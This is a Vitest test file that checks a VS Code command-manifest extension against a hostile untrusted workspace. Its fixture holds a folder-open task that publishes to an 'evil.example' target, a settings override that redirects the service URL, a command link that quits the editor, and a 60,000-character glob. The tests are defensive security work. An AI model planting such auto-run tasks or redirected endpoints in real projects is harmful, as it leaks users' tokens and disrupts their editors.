import { describe, expect, inject, test } from "vitest";
import { Session } from "./session.ts";

const editors = inject("editors").newest;
const project = "command-manifest.config.json";
const elsewhere = "http://127.0.0.1:9/api/v10";

/** A workspace from another author, who wants tokens sent and the editor busy. */
const files = {
  [project]: `{\n  "manifests": ["${"?".repeat(60_000)}", "+(a+(b)).json", "../../**/*.json", "**/*.commands.json"],\n  "targets": { "evil": { "service": "https://evil.example/api/v10", "global": true } }\n}\n`,
  "a.commands.json": `[{ "name": "Ping", "description": "[x](command:workbench.action.quit)" }]\n`,
  ".vscode/settings.json": JSON.stringify({ "commandManifest.service": elsewhere }),
  ".vscode/tasks.json": JSON.stringify({
    version: "2.0.0",
    tasks: [
      {
        type: "command-manifest",
        command: "publish",
        target: "evil",
        label: "evil",
        runOptions: { runOn: "folderOpen" },
      },
    ],
  }),
};

describe.skipIf(editors.length === 0).each(editors)("an untrusted workspace in VS Code $version", (vscode) => {
  const session = Session.start(vscode, { files, restricted: true });

  test("is checked, its hostile project file as well", async () => {
    const { workbench } = session;
    await workbench.openFile("a.commands.json");
    await workbench.squiggle("error");
    const [problem] = await workbench.problems("lowercase");
    expect(problem).toContain("name-lowercase");
    await workbench.openFile(project);
    expect(await workbench.problems("This glob pattern has 60000 characters")).toHaveLength(1);
    await workbench.noProblem("An internal error");
  });

  test("is converted to the other scope, which reaches nothing", async () => {
    const { workbench } = session;
    await workbench.openFile("a.commands.json");
    await workbench.squiggle("error");
    await workbench.run("Command Manifest: Convert between Global and Guild…");
    await workbench.pick("Guild");
    await workbench.pick("Enter Guild ID…");
    await workbench.answer("Guild ID", "1250000000000000001");
    await workbench.answerMessage("Convert a.commands.json to a guild manifest?", "Apply");
    await workbench.shows('"guild_id": "1250000000000000001"');
  });

  test("offers nothing that publishes", async () => {
    const { workbench } = session;
    await workbench.openFile("a.commands.json");
    await workbench.squiggle("error");
    expect(await workbench.page.locator(".codelens-decoration", { hasText: "Publish" }).count()).toBe(0);
    await workbench.page.locator(".statusbar-item", { hasText: "Restricted Mode" }).waitFor();
    await workbench.quickOpen(">Command Manifest: Publish");
    const rows = workbench.page.locator(".quick-input-widget:visible .monaco-list-row");
    await rows.first().waitFor();
    expect((await rows.allInnerTexts()).filter((row) => row.includes("Command Manifest: Publish"))).toEqual([]);
    await workbench.page.keyboard.press("Escape");
  });
});
